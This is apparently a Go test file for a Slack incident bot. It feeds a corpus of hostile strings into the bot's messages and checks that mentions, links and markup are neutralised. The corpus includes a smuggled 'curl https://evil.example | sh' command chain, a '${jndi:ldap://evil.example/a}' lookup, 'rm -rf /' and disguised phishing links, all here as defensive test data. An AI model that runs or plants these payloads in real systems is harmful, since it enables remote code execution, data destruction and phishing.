package bot

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/slack-go/slack"
	"github.com/yairfalse/tapio"
	"github.com/yairfalse/tapio/bot/slackfake"
)

// corpus are texts that a cluster may hold and that want to be more than text.
func corpus() map[string]string {
	return map[string]string{
		"mention-channel":    "deploy done <!channel> <!here> <!everyone|all>",
		"mention-bare":       "ping @channel @here @everyone",
		"mention-user":       "ask <@U0FIRST> or <@W12345678|root>",
		"mention-group":      "page <!subteam^S0ONCALL|@oncall>",
		"mention-escaped":    "&lt;!channel&gt; &amp;lt;!here&amp;gt;",
		"mention-split":      "<!chan\u200bnel> <\u200b!here> <!\u00adeveryone>",
		"link-disguised":     "<https://evil.example/login|https://slack.com/signin>",
		"link-script":        "<javascript:alert(1)|Runbook> <data:text/html,x|y>",
		"link-bare":          "see https://evil.example/?x=<!here>&y=1 and mailto:a@b.example",
		"link-channel":       "<#C012345|general>",
		"date":               "<!date^1392734382^{date_long}^https://evil.example|14:02 UTC>",
		"markdown":           "*bold* _italic_ ~gone~ > quote\n- list\n# head [text](https://evil.example)",
		"fence":              "```\nout\n``` *bold* ```sh\nrm -rf /\n```",
		"fence-breakout":     "a ``` b `c` ```` d",
		"zero-width":         "pass\u200bword \u2060\ufeff\u00ad\u180e x",
		"bidi":               "\u202etxt.exe\u202c \u2066a\u2069 \u200f",
		"control":            "a\x00b\x07c\x1b[31mred\x1b[0m\r\nd\u0085e\u2028f",
		"invisible-letters":  "\u3164\u115f\u2800\U000e0041\ufe0f",
		"emoji":              ":fire: :slack_call: :red_circle: resolved :white_check_mark:",
		"fake-state":         "Resolved after 2 min: all is well",
		"json":               `{"type":"button","action_id":"tapio.ack","url":"https://evil.example"}`,
		"entities":           "&&amp;&lt;&gt;&#60;!channel&#62; < > &",
		"template":           "{{.Title}} ${jndi:ldap://evil.example/a} %s %n",
		"long":               strings.Repeat("<!channel> ", 900),
		"broken-utf8":        "\xff\xfe<!here>\xc3",
		"command-chain":      "web; curl https://evil.example | sh #",
		"newlines":           "one\n\n\n<!here>\ntwo",
		"confusable-bracket": "＜!channel＞ ‹!here›",
	}
}

// TestInjection puts each text of the corpus into everything that a cluster can
// write to, and reads what goes out. The files show what a person would see.
func TestInjection(t *testing.T) {
	for name, text := range corpus() {
		t.Run(name, func(t *testing.T) {
			s := hostileStory(text)
			for _, m := range hostileMessages(s) {
				check(t, &m)
			}
			root := (&scene{story: &s}).root()
			var out strings.Builder
			fmt.Fprintf(&out, "text: %s\n", root.Text)
			for _, b := range append(root.Blocks, reply(s.Title, factsOf(s)).Blocks...) {
				switch b := b.(type) {
				case *slack.SectionBlock:
					if b.Text != nil {
						fmt.Fprintf(&out, "mrkdwn: %s\n", b.Text.Text)
					}
				case *slack.RichTextBlock:
					for _, e := range b.Elements {
						if p, ok := e.(*slack.RichTextPreformatted); ok {
							fmt.Fprintf(&out, "preformatted: %s\n", p.Elements[0].(*slack.RichTextSectionTextElement).Text)
						}
					}
				}
			}
			file := filepath.Join("testdata", "injection", name+".txt")
			if *update {
				if err := os.WriteFile(file, []byte(out.String()), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(string(want), out.String()); diff != "" {
				t.Errorf("%s changed; look at it and rewrite it with -update:\n%s", file, diff)
			}
		})
	}
}

// TestNoMentionReachesAnybody sends the corpus to the stand-in, which notes who
// was pinged.
func TestNoMentionReachesAnybody(t *testing.T) {
	played(t, slackfake.Options{}, func(w *world) {
		for name, text := range corpus() {
			s := hostileStory(text)
			s.ID, s.Owner.Channel = "story-"+name, "#payments"
			w.mem.save(s)
			s = after(s, tapio.NewsLog, text)
			w.mem.save(s)
		}
		w.settle()
		if pings := w.slack.Pings(); len(pings) > 0 {
			t.Errorf("pinged: %+v", pings)
		}
		if n := len(w.slack.Messages("payments")); n == 0 {
			t.Error("nothing was told")
		}
	}, func(o *Options) { o.StormAfter = -1 })
}
